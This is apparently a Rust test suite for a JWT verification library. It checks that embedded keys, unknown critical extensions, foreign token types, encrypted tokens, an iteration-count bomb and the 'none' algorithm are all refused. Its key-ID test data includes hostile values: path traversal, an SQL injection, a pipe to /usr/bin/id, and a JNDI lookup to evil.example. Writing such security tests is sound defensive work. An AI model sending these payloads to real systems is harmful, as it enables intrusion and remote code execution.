//! Everything else in the header: keys it brings, names of keys, extensions, types.
use crate::fixture::*;
use jeton_core::verify::{screen, verify_jws};
use jeton_core::{AlgorithmSet, Json};

fn with(header: &str) -> &'static str {
    outcome(&FIXTURE.rsa.sign_with(&parse(header), &good_claims()).unwrap())
}

#[test]
fn d7_a_header_brings_no_keys_and_no_claims() {
    // CVE-2018-0114, CVE-2026-27962, CVE-2025-52477
    let jwk = FIXTURE.rsa.public_jwk().to_text();
    let rows = [
        format!(r#"{{"jwk":{jwk}}}"#),
        format!(r#"{{"jwks":{{"keys":[{jwk}]}}}}"#),
        r#"{"jku":"https://issuer.example/keys"}"#.into(),
        r#"{"x5u":"https://issuer.example/cert"}"#.into(),
        r#"{"x5c":["AAAA"]}"#.into(),
        r#"{"iss":"https://issuer.example"}"#.into(),
        r#"{"zip":"DEF"}"#.into(),
    ];
    check(rows.iter().map(|header| (header, with(header), "malformed")));
    // Names of certificates bring nothing; Entra writes them.
    assert_eq!(
        with(r#"{"x5t":"AAAA","x5t#S256":"AAAA","unknown":1}"#),
        "accepted"
    );
}

#[test]
fn d7_the_name_of_a_key_is_only_a_name() {
    let case = FIXTURE.rsa.key_id().to_ascii_uppercase();
    let names = [
        "../../../../dev/null",
        "' UNION SELECT 'x' --",
        "|/usr/bin/id",
        "a\0b",
        "${jndi:ldap://evil.example/a}",
        "https://evil.example/key",
        "",
        "*",
        &"k".repeat(20_000),
        &case,
    ];
    check(names.iter().map(|kid| {
        let header = Json::object([("kid", Json::from(*kid))]).to_text();
        (kid, with(&header), "unknown-key")
    }));
    check([
        ("object", with(r#"{"kid":{"a":1}}"#), "malformed"),
        ("array", with(r#"{"kid":["a"]}"#), "malformed"),
        ("number", with(r#"{"kid":1}"#), "malformed"),
        (
            "100 KB",
            with(&format!(r#"{{"kid":"{}"}}"#, "k".repeat(100_000))),
            "too-large",
        ),
    ]);
}

#[test]
fn d7_no_extension_is_understood() {
    // CVE-2025-59420, CVE-2026-32597
    let rows = [
        r#"{"crit":["x"],"x":1}"#,
        r#"{"crit":["x"]}"#,
        r#"{"crit":[]}"#,
        r#"{"crit":"exp"}"#,
        r#"{"crit":1}"#,
        r#"{"crit":["alg"]}"#,
        r#"{"crit":["exp","exp"],"exp":1}"#,
        r#"{"crit":["b64"],"b64":false}"#,
        r#"{"crit":["b64"],"b64":true}"#,
        r#"{"b64":false}"#,
    ];
    check(rows.map(|header| (header, with(header), "critical-header")));
    let nothing = compact(r#"{"alg":"RS256","crit":null}"#, &good_claims().to_text(), "AAAA");
    assert_eq!(outcome(&nothing), "critical-header");
}

#[test]
fn d7_a_token_of_another_protocol_is_refused() {
    // RFC 8725 sections 2.8 and 3.11
    let ours = [
        "JWT",
        "jwt",
        "application/jwt",
        "at+jwt",
        "application/at+jwt",
        "JOSE",
    ];
    check(ours.map(|typ| (typ, with(&format!(r#"{{"typ":"{typ}"}}"#)), "accepted")));
    assert_eq!(
        outcome(
            &FIXTURE
                .rsa
                .sign_with(&Json::object([("typ", Json::Null)]), &good_claims())
                .unwrap()
        ),
        "accepted"
    );
    let others = [
        "dpop+jwt",
        "logout+jwt",
        "secevent+jwt",
        "application/secevent+jwt",
        "entity-statement+jwt",
        "oauth-authz-req+jwt",
        "vc+sd-jwt",
        "JWE",
        "text/jwt",
        "application/x/jwt",
        "jwt ",
        "",
    ];
    check(others.map(|typ| (typ, with(&format!(r#"{{"typ":"{typ}"}}"#)), "malformed")));
    check([
        ("typ is a number", with(r#"{"typ":1}"#), "malformed"),
        ("cty JWT", with(r#"{"cty":"JWT"}"#), "malformed"),
        (
            "cty application/jwt",
            with(r#"{"cty":"application/JWT"}"#),
            "malformed",
        ),
    ]);
    let own = expect().only_type("client-authentication+jwt");
    let token = |header: &str| FIXTURE.rsa.sign_with(&parse(header), &good_claims()).unwrap();
    let asked = |header: &str| outcome_as(&token(header), &FIXTURE.keys, &own);
    check([
        (
            "own type",
            asked(r#"{"typ":"client-authentication+jwt"}"#),
            "accepted",
        ),
        ("usual type", asked("{}"), "malformed"),
        ("no type", asked(r#"{"typ":null}"#), "malformed"),
    ]);
}

#[test]
fn d7_an_encrypted_token_is_not_opened() {
    // CVE-2022-36083, CVE-2023-49290, CVE-2023-52428, CVE-2024-28180, CVE-2025-63811, CVE-2026-29000
    let header = |h: &str| jeton_core::jose::encode_segment(h);
    let bomb = r#"{"alg":"PBES2-HS512+A256KW","enc":"A256GCM","p2c":2147483647,"p2s":"AAAA"}"#;
    let direct = r#"{"alg":"dir","enc":"A256GCM","zip":"DEF","cty":"JWT"}"#;
    check([
        (
            "pbes2",
            outcome(&format!("{}.AAAA.AAAA.AAAA.AAAA", header(bomb))),
            "encrypted",
        ),
        (
            "direct",
            outcome(&format!("{}..AAAA.AAAA.AAAA", header(direct))),
            "encrypted",
        ),
        (
            "three segments",
            outcome(&format!("{}.AAAA.AAAA", header(direct))),
            "encrypted",
        ),
        ("five segments of nothing", outcome("a.b.c.d.e"), "malformed"),
        (
            "five segments, a JWS header",
            outcome(&format!("{}.a.b.c.d", header(r#"{"alg":"RS256"}"#))),
            "malformed",
        ),
    ]);
}

#[test]
fn a_signature_alone_is_verified_with_the_same_refusals() {
    let f = &*FIXTURE;
    let jws = |header: &str, payload: &[u8]| {
        let mut whole = parse(&format!(r#"{{"alg":"ES256","kid":"{}"}}"#, f.es256.key_id()));
        parse(header)
            .as_object()
            .unwrap()
            .iter()
            .for_each(|(n, v)| whole.set(n.as_str(), v.clone()));
        f.es256.sign_bytes(whole.to_text().as_bytes(), payload).unwrap()
    };
    let open = |token: &str| verify_jws(token, &f.keys, AlgorithmSet::ALL);
    let proved = open(&jws("{}", b"not \xff json")).unwrap();
    assert_eq!(
        (proved.key_thumbprint(), &proved[..]),
        (f.es256.key_id(), &b"not \xff json"[..])
    );
    assert!(open(&jws(r#"{"typ":"dpop+jwt","cty":"x"}"#, b"x")).is_ok());
    let code = |token: &str| open(token).map_or_else(|r| r.code(), |_| "accepted");
    check([
        ("detached", code(&jws("{}", b"")), "malformed"),
        ("crit", code(&jws(r#"{"crit":["x"]}"#, b"x")), "critical-header"),
        ("none", code(&jws(r#"{"alg":"none"}"#, b"x")), "algorithm-none"),
        (
            "changed",
            code(&jws("{}", b"x").replace(".eA.", ".eQ.")),
            "bad-signature",
        ),
    ]);
}

#[test]
fn a_hopeless_token_is_screened_before_keys_are_fetched() {
    let f = &*FIXTURE;
    let token = f.rsa.sign(&good_claims()).unwrap();
    assert_eq!(
        screen(&token, AlgorithmSet::ALL).unwrap().key_id.as_deref(),
        Some(f.rsa.key_id())
    );
    let code = |token: &str, set| screen(token, set).map_or_else(|r| r.code(), |_| "accepted");
    let only_es = AlgorithmSet::of(&[jeton_core::Algorithm::Es256]);
    check([
        ("not on the list", code(&token, only_es), "algorithm-not-allowed"),
        (
            "none",
            code(&compact(r#"{"alg":"none"}"#, "{}", ""), AlgorithmSet::ALL),
            "algorithm-none",
        ),
        ("opaque", code("opaque", AlgorithmSet::ALL), "malformed"),
        (
            "payload",
            code(&token.replacen(".e", ".=", 1), AlgorithmSet::ALL),
            "malformed",
        ),
    ]);
}
